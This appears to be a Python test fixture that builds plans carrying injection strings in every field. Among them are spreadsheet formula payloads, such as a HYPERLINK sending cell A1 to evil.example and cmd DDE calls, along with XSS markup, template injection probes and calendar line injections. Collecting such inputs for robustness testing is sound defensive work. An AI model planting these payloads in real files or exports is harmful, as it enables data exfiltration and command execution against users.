"""Texts that attack whoever takes them for more than text, and plans that hold them in every field."""

from __future__ import annotations

from typing import Any

from closeplan_nlp.types import ClosePlan, PlanParticipant

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "a\n=1+1",
    '","=1+1","',
)
MARKUP = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>' onload='x",
    "]]><!-- --><![CDATA[ &lt;b&gt; &#60; &evil;",
    "<!channel> <@U123> <http://evil.example|ok> @everyone &amp;",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png) **b** _i_ `c`",
    "{code}x{code} [~admin] [a|http://evil.example] !x.png! h1. x {{mono}} --",
    "*bold* ~strike~ :smile: `x`",
)
TEMPLATES = ("{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>", "{{DATE(2026-01-01,SHORT)}}", "%%{init: {}}%%", "%s %d %n")
LINES = (
    "title x",
    "section foo",
    "2026-03-06",
    "click a href",
    "a:b;c#d,e",
    "end",
    '"]; B["x',
    "---\nconfig:\n---",
    "BEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT",
    "x\r\n ATTENDEE:mailto:a@b",
    "\\n\\,\\;",
)
ODD = (
    "\x1b[31mred\x07 \u202eevil\u202c \x00 \ufeff \ufffe \x0b\x0c\x85\u2028",
    "👩‍👩‍👧‍👦🏽 🇩🇪 e\u0301",
    "مرحبا بالعالم שלום 日本語",
    "w" * 40_000,
    "ab " * 15_000,
    "\ud800",
    "yes",
    "#",
)
ATTACKS = (*FORMULAS, *MARKUP, *TEMPLATES, *LINES, *ODD)


def armed(plan: ClosePlan, text: str) -> ClosePlan:
    """A plan with the text in the fields too that only plan files have."""
    more: dict[str, Any] = {"notes": text, "answer": text, "step": text, "start": "2026-03-02"}
    stages = ("approval", "decision", "signature", "go_live")
    items = []
    for number, item in enumerate(plan.items):
        category = {"category": stages[number % 4]} if item.kind == "milestone" else {}
        items.append(item.model_copy(update={**more, **category, "id": f"{text}{number}", "depends_on": (f"{text}0",)}))
    people = (*plan.participants, PlanParticipant(name=text, side="customer", email=text, org=text, part=text))
    return plan.model_copy(update={"items": tuple(items), "participants": people})
